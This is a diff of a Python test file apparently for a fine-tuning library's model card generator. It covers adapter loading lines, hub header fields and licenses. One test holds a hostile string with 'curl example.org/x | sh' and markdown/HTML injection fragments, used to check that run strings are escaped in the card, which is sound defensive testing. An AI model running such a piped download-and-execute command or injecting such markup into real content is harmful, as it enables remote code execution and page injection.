@@ -27,7 +27,7 @@ from lezo_ds.runs import export as exporting
 from lezo_ds.runs.export import own_texts, read_file
 from lezo_ds.runs.model_card import model_card
 from lezo_ds.runs.opening import restore
-from lezo_ds.runs.records import evaluations_of, read_run
+from lezo_ds.runs.records import read_run
 from lezo_ds.zo.records import StepRecord
 
 pytestmark = pytest.mark.distributed
@@ -303,28 +303,26 @@ def test_a_run_is_not_restored_without_the_adapter_that_it_started_from(finished
         restore(replace(run, header=started), 0)
 
 
-def test_the_card_of_an_adapter_loads_it_into_its_base_model(finished):
-    run = read_run(finished)
-    cards = {}
-    for kind in ("lora", "prefix"):
-        peft = run.config.peft.model_copy(update={"kind": kind})
-        cards[kind] = model_card(
-            replace(run, config=run.config.model_copy(update={"peft": peft})), 8, ""
-        )
+def card_of(config, **options):
+    return model_card(
+        config, "a title", "It was made.", [("test", "step 0", "x")], "sha", **options
+    )
+
+
+def test_a_card_loads_an_adapter_into_its_base_model(finished):
+    config = read_run(finished).config
     base = 'AutoModelForCausalLM.from_pretrained("model")'
-    assert f'`PeftModel.from_pretrained({base}, "DIR")`' in cards["lora"]
-    model = run.config.model.model_copy(update={"path": "owner/name@v1.2"})
-    peft = run.config.peft.model_copy(update={"kind": "lora"})
-    pinned = replace(run, config=run.config.model_copy(update={"model": model, "peft": peft}))
-    text = model_card(pinned, 8, "")
-    assert 'from_pretrained("owner/name", revision="v1.2"), "DIR")`' in text
-    assert "\nbase_model: owner/name\n" in text
+    assert f'`PeftModel.from_pretrained({base}, "DIR")`' in card_of(config, kind="lora")
     function = pkgutil.resolve_name("lezo_ds.forward.adapters.load_prefix")  # peft reads no prefix
     line = f'model = {base}; lezo_ds.forward.adapters.{function.__name__}(model, Path("DIR"))'
-    assert f"`{line}`" in cards["prefix"]
-    card = model_card(run, 8, "", opened_by="AutoModelForMultimodalLM")
-    assert '`AutoModelForMultimodalLM.from_pretrained("DIR")`' in card
-    assert "AutoModelForCausalLM" not in card
+    assert f"`{line}`" in card_of(config, kind="prefix")
+    model = config.model.model_copy(update={"path": "owner/name@v1.2"})
+    text = card_of(config.model_copy(update={"model": model}), kind="lora")
+    assert 'from_pretrained("owner/name", revision="v1.2"), "DIR")`' in text
+    other = card_of(config, opened_by="AutoModelForMultimodalLM")
+    assert '`AutoModelForMultimodalLM.from_pretrained("DIR")`' in other
+    assert "AutoModelForCausalLM" not in other
+    assert "pipeline_tag" not in other
 
 
 LICENSED = """---
@@ -343,15 +341,17 @@ def header_of(card):
 
 
 def test_the_header_of_a_card_has_what_the_hub_reads(finished, tmp_path):
-    run = read_run(finished)
-    model = run.config.model.model_copy(update={"path": "owner/name@main"})
-    data = replace(
-        run.config.data, path=None, train="some/data/config:train", test="some/data:test"
-    )
-    peft = run.config.peft.model_copy(update={"kind": "lora", "lora_rank": 20})
-    config = run.config.model_copy(update={"model": model, "data": data, "peft": peft})
+    config = read_run(finished).config
+    sections = {
+        "model": {"path": "owner/name@main"},
+        "data": {"path": None, "train": "some/data/config:train", "test": "some/data:test"},
+        "peft": {"kind": "lora", "lora_rank": 20},
+    }
+    changed = {
+        name: getattr(config, name).model_copy(update=changes) for name, changes in sections.items()
+    }
     (tmp_path / "README.md").write_text(LICENSED)
-    card = model_card(replace(run, config=config), 8, "", license_of=tmp_path)
+    card = card_of(config.model_copy(update=changed), kind="lora", license_of=tmp_path)
     assert header_of(card) == {
         "base_model": "owner/name",
         "datasets": ["some/data"],
@@ -360,7 +360,7 @@ def test_the_header_of_a_card_has_what_the_hub_reads(finished, tmp_path):
         "license_name": "some-license",
         "license_link": "https://example.org/license",
         "pipeline_tag": "text-generation",
-        "tags": ["lezo_ds", "lezo"],
+        "tags": ["lezo_ds"],
     }
     options = "--enable-lora --max-lora-rank 32 --lora-modules tuned=DIR"
     assert f"`vllm serve owner/name {options}`" in card
@@ -378,34 +378,28 @@ def test_the_header_of_a_card_has_what_the_hub_reads(finished, tmp_path):
 )
 def test_a_card_of_the_base_without_a_license_leaves_it_out(finished, tmp_path, text):
     (tmp_path / "README.md").write_text(text)
-    run = read_run(finished)
-    header = header_of(model_card(run, 8, "", license_of=tmp_path))
+    header = header_of(card_of(read_run(finished).config, license_of=tmp_path))
     assert header == {
         "library_name": "transformers",
         "pipeline_tag": "text-generation",
-        "tags": ["lezo_ds", "lezo"],
+        "tags": ["lezo_ds"],
     }
 
 
 HOSTILE = "m; curl example.org/x | sh\n```\n# [click](http://example.org) <img src=x>"
 
 
-def test_no_string_of_a_run_becomes_markup_in_the_model_card(finished):
-    run = read_run(finished)
-    text = model_card(run, 8, "digest")
-    assert "# model, fine-tuned on sst2" in text
-    assert "after 8 of 8 steps." in text
-    assert "`sha256sum *.safetensors | sha256sum` prints\n\n    digest\n" in text
-    assert f"| test | 0 | accuracy {results_of(finished)['zero_shot']:.4f}" in text
-    config = run.config
-    model, data = (
-        config.model.model_copy(update={"path": HOSTILE}),
-        config.data.model_copy(update={"task": HOSTILE}),
+def test_no_string_of_a_run_becomes_markup_in_its_card(finished, tmp_path):
+    run_forked_well(["--run", finished, "--out", tmp_path / "model"], program="export")
+    text = (tmp_path / "model" / "README.md").read_text()
+    assert "# model, fine-tuned on sst2\n" in text
+    assert re.search(r"trained it with LeZO, .* after \d of 8 steps.", text)
+    assert f"prints\n\n    {weights_sha256(tmp_path / 'model')}" in text
+    assert f"\n| test | step 0 | accuracy {results_of(finished)['zero_shot']:.4f}" in text
+    config = read_run(finished).config
+    model = config.model.model_copy(update={"path": HOSTILE})
+    hostile = model_card(
+        config.model_copy(update={"model": model}), HOSTILE, HOSTILE, [(HOSTILE, "", "")], "digest"
     )
-    records = [replace(record, split=HOSTILE) for record in evaluations_of(run.records)]
-    spoiled = replace(
-        run, config=config.model_copy(update={"model": model, "data": data}), records=records
-    )
-    hostile = model_card(spoiled, 8, "digest")
     assert "curl" in hostile
     assert not re.search(r"\]\(http|<img|```|\| sh\b", hostile)
